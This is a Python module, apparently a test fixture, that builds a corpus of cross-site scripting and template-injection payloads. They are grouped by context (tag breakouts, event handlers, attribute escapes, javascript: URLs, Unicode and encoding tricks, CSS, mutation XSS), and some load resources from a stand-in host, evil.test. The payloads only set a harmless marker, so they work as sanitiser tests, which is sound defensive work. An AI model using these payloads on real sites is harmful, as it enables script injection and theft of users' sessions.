"""Texts that try to run in a page that shows them, each calling `ran(n)`-like marks.

Our own collection, by the place they aim at. Each would set `window.__ran` to its own
number, or show a dialog, or leave an element called `hm-planted`, in a page that puts it
where it aims without care.
"""

MARK = "__ran"
TAG = "hm-planted"
RUN = f"window.{MARK}=(window.{MARK}||0)+1"

_TAGS = (
    "<script>{run}</script>",
    "<SCRIPT >{run}</SCRIPT >",
    "<scr<script>ipt>{run}</scr</script>ipt>",
    "<script\n>{run}</script\t>",
    "<script src='data:text/javascript,{run}'></script>",
    "<script type=module>{run}</script>",
    "</title><script>{run}</script>",
    "</textarea><script>{run}</script>",
    "</style><script>{run}</script>",
    "</noscript><script>{run}</script>",
    "</template><script>{run}</script>",
    "<!--><script>{run}</script>-->",
    "--><script>{run}</script><!--",
    "]]><script>{run}</script>",
    "<{tag}>planted</{tag}>",
    "<xmp><script>{run}</script></xmp>",
    "<plaintext>",
    "<base href=//evil.test/>",
    "<link rel=stylesheet href=//evil.test/a.css>",
    "<meta http-equiv=refresh content='0;url=javascript:{run}'>",
    "<meta http-equiv=refresh content=0;url=//evil.test/>",
    "<iframe src=javascript:{run}></iframe>",
    "<iframe srcdoc='<script>parent.{mark}=1</script>'></iframe>",
    "<object data=javascript:{run}></object>",
    "<embed src=javascript:{run}>",
    "<form action=javascript:{run}><{tag}><button>Buy</button></form>",
    "<math><mi xlink:href=javascript:{run}>x</mi></math>",
)
_HANDLERS = (
    "<img src=x onerror={run}>",
    "<img/src=x/onerror={run}//",
    "<img src=x onerror\n=\n{run}>",
    "<img src=`x`onerror={run}>",
    "<svg onload={run}>",
    "<svg/onload={run}//",
    "<svg><script>{run}</script></svg>",
    "<svg><animate onbegin={run} attributeName=x dur=1s>",
    "<svg><a xlink:href=javascript:{run}><{tag}>x</{tag}></a></svg>",
    "<svg><use href='data:image/svg+xml,<svg id=x onload={run}/>#x'/></svg>",
    "<body onload={run}>",
    "<details open ontoggle={run}><{tag}>",
    "<input autofocus onfocus={run}>",
    "<select autofocus onfocus={run}>",
    "<video><source onerror={run}></video>",
    "<audio src=x onerror={run}>",
    "<marquee onstart={run}>",
    "<div style='animation:a' onanimationstart={run}><{tag}>",
    "<p onpointerover={run}><{tag}>over</p>",
)
_ATTRIBUTES = (
    '" onmouseover="{run}" x="',
    "' onfocus='{run}' autofocus='",
    '"><img src=x onerror={run}>',
    "'><img src=x onerror={run}>",
    "`><img src=x onerror={run}>",
    '" autofocus onfocus={run} tabindex=1 x="',
    "x onerror={run} y=",
    '"/><{tag} id="planted"/>',
    '" style="background:url(javascript:{run})" x="',
    '" hx-on:load="{run}" hx-get="//evil.test/" hx-trigger="load" x="',
    "&quot; onload=&quot;{run}",
    "&#34;&#62;&#60;img src=x onerror={run}&#62;",
)
_ADDRESSES = (
    "javascript:{run}",
    "JaVaScRiPt:{run}",
    "java\tscript:{run}",
    "\x01javascript:{run}",
    "javascript&colon;{run}",
    "data:text/html,<script>{run}</script>",
    "data:image/svg+xml,<svg onload={run}>",
    "vbscript:{run}",
    "//evil.test/%0d%0aset-cookie:a=b",
    "https://evil.test\\@shop.test/",
)
_TEMPLATES = (
    "{{{{ 7 * 7 }}}}{{% raw %}}",
    "{{{{ cycler.__init__.__globals__ }}}}",
    "{{# #}}{{% set x = 1 %}}<{tag}>",
    "${{{run}}}",
    "<%= {run} %>",
    "#{{{run}}}",
    "%(run)s %s %n {{0}} {{run}}",
)
_DATA = (
    "</script><script>{run}</script>",
    '"}}</script><script>{run}</script>',
    "<!--<script>{run}",
    "\\u003cscript>{run}\\u003c/script>",
    '","@type":"Person","name":"x',
    "\u2028{run}\u2029",
)
_LETTERS = (
    "\uff1cscript\uff1e{run}\uff1c/script\uff1e",
    "<\u0000script>{run}</script>",
    "\u202e<script>{run}</script>",
    "<scr\u00adipt>{run}</scr\u00adipt>",
    "+ADw-script+AD4-{run}+ADw-/script+AD4-",
    "\u00bcscript\u00be{run}\u00bc/script\u00be",
    "%3Cscript%3E{run}%3C/script%3E",
    "&lt;script&gt;{run}&lt;/script&gt;",
    "&amp;lt;script&amp;gt;{run}",
    "<\u017fcript>{run}</\u017fcript>",
)
_STYLES = (
    "<style>@import '//evil.test/a.css';</style>",
    "<style>*{{background:url(javascript:{run})}}</style><{tag}>",
    "</style><{tag} style='position:fixed;inset:0'>",
    "expression({run})",
)
# Harmless to a parser, and something else when what it made is written and read again.
_MUTATIONS = (
    "<noscript><p title='</noscript><img src=x onerror={run}>'>",
    "<svg></p><style><a id='</style><img src=x onerror={run}>'>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--><img src=x onerror={run}>'>",
    "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror={run}>",
    "<template><style></template><img src=x onerror={run}></style>",
    "<table><td><{tag}><select><template><img src=x onerror={run}>",
    "<a href='x<!--'><img src=x onerror={run}>--></a>",
)

CORPUS = tuple(
    text.format(run=RUN, tag=TAG, mark=MARK)
    for kind in (
        *(_TAGS, _HANDLERS, _ATTRIBUTES, _ADDRESSES, _TEMPLATES),
        *(_DATA, _LETTERS, _STYLES, _MUTATIONS),
    )
    for text in kind
)
